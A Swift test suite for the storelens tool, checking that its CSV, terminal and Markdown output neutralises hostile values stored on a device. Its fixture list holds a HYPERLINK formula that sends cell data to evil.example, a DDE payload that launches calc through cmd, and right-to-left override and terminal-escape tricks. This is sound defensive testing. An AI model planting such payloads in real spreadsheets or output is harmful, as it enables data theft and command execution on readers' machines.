import Foundation
import SQLiteAccess
import StoreBuilder
import StoreTestSupport
import Testing

/// Values from a device must not act on whoever reads storelens' output: a spreadsheet opening
/// the CSV, a terminal showing the table, a Markdown renderer showing a ticket.
@Suite("output that attacks its reader")
struct HostileOutputTests {
    /// Titles a hostile app could store: formulas of every trigger, bidi overrides, controls.
    static let titles = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
        "=cmd|' /C calc'!A0", "-5", "+3.25", "-1e5", "plain", "a|b", "evil\u{202E}txt.exe", "x\u{2066}y\u{2069}z", "bell\u{07}\u{9B}31m",
    ]

    static func store(in folder: TemporaryFolder) throws -> URL {
        let url = folder.path("Hostile.sqlite")
        let writer = try StoreWriter(url: url, model: SampleModels.todo, options: .init(journalMode: .delete))
        try writer.transaction(.init(bundleID: "com.example.todo")) { w in
            let list = try w.insert("TodoList", ["name": .string("=1+1")])
            for title in titles { try w.insert("TodoItem", ["title": .string(title), "list": .object(entity: "TodoList", pk: list)]) }
        }
        try writer.close()
        return url
    }

    @Test("CSV: formula cells get a leading quote (numbers do not), controls are escaped, --raw-csv gives the stored text; both match SQLite")
    func csvInjection() throws {
        let folder = try TemporaryFolder("hostile-csv")
        let store = try Self.store(in: folder)
        // The truth, from SQLite itself (on a copy).
        let copy = folder.path("copy.sqlite")
        try FileManager.default.copyItem(at: store, to: copy)
        let db = try Connection.open(path: copy.path, mode: .readOnly)
        let stored = try db.rows("SELECT Z_PK, ZTITLE FROM ZTODOITEM ORDER BY Z_PK").map { ($0[0].int ?? -1, $0[1].string ?? "") }
        #expect(stored.count == Self.titles.count)

        let safe = try CLI.run(["rows", store.path, "TodoItem", "--format", "csv"])
        let raw = try CLI.run(["rows", store.path, "TodoItem", "--format", "csv", "--raw-csv"])
        #expect(safe.status == 0 && raw.status == 0, "\(safe.stderr) \(raw.stderr)")
        let safeRecords = CSVRecords.parse(safe.stdout), rawRecords = CSVRecords.parse(raw.stdout)
        let column = try #require(safeRecords.first?.firstIndex(of: "title"))
        for (pk, title) in stored {
            let safeCell = try #require(safeRecords.first { $0[1] == String(pk) }?[column])
            let rawCell = try #require(rawRecords.first { $0[1] == String(pk) }?[column])
            #expect(rawCell == title, "--raw-csv writes the stored value")
            // A tab or CR in front is escaped (`\u0009`), so only =, +, -, @ are left to neutralise.
            let trigger = title.unicodeScalars.first.map { "=+-@".unicodeScalars.contains($0) } ?? false
            let number = Double(title) != nil && title.allSatisfy { "+-.0123456789e".contains($0) }
            let body = trigger && !number ? String(safeCell.dropFirst()) : safeCell
            if trigger && !number { #expect(safeCell.hasPrefix("'"), "a formula is neutralised: \(title.debugDescription) → \(safeCell.debugDescription)") }
            #expect(OutputEscaping.unescape(body) == title, "anything else only escaped: \(title.debugDescription) → \(safeCell.debugDescription)")
            OutputEscaping.expectClean(safeCell, allowed: [], "a CSV cell")
        }
        // The to-one relationship's target and every other cell obey the same rule.
        for record in safeRecords.dropFirst() {
            for cell in record {
                if let first = cell.unicodeScalars.first, "=@\t\r".unicodeScalars.contains(first) { Issue.record("unneutralised cell \(cell.debugDescription)") }
            }
        }
        let misuse = try CLI.run(["rows", store.path, "TodoItem", "--raw-csv"])
        #expect(misuse.status == 2 && misuse.stderr.contains("--raw-csv is for --format csv"), "\(misuse.stderr)")
    }

    @Test("text output: bidi overrides, isolates and C0/C1 controls never reach the terminal")
    func bidiAndControls() throws {
        let folder = try TemporaryFolder("hostile-text")
        let store = try Self.store(in: folder)
        let table = try CLI.run(["rows", store.path, "TodoItem"])
        #expect(table.status == 0, "\(table.stderr)")
        let hostile: [UInt32] = [0x07, 0x1B, 0x9B, 0x200E, 0x200F, 0x061C, 0x2028, 0x2029] + Array(0x202A...0x202E) + Array(0x2066...0x2069)
        for scalar in table.stdout.unicodeScalars where scalar != "\n" {
            #expect(!hostile.contains(scalar.value) && scalar.value >= 0x20, "U+\(String(scalar.value, radix: 16)) reached the terminal")
        }
        #expect(table.stdout.contains("evil\u{FFFD}txt.exe"), "shown, replaced as ESC is")
    }

    @Test("Markdown: a | in a path or value cannot add a column to a table")
    func markdownPipes() throws {
        let folder = try TemporaryFolder("hostile-md")
        let sub = folder.path("a|b")
        try FileManager.default.createDirectory(at: sub, withIntermediateDirectories: true)
        let writer = try StoreWriter(url: sub.appendingPathComponent("x|y.sqlite"), model: SampleModels.todo, options: .init(journalMode: .delete))
        try writer.close()
        let scan = try CLI.run(["scan", folder.url.path, "--format", "markdown"])
        #expect(scan.status == 0, "\(scan.stderr)")
        let header = try #require(scan.stdout.split(separator: "\n").first { $0.hasPrefix("| store |") })
        let columns = Self.cells(header).count
        let rows = scan.stdout.split(separator: "\n").filter { $0.hasPrefix("| `") }
        #expect(rows.count == 1, "\(scan.stdout)")
        for row in rows {
            #expect(Self.cells(row).count == columns, "the row keeps its columns: \(row)")
            #expect(row.contains("a\\|b/x\\|y.sqlite"), "\(row)")
        }
    }

    /// GitHub's table cells: split on `|` not preceded by a backslash.
    static func cells(_ row: Substring) -> [String] {
        var cells: [String] = [], cell = "", escaped = false
        for c in row.dropFirst().dropLast() {
            if c == "|" && !escaped { cells.append(cell); cell = "" } else { cell.append(c) }
            escaped = c == "\\"
        }
        return cells + [cell]
    }
}
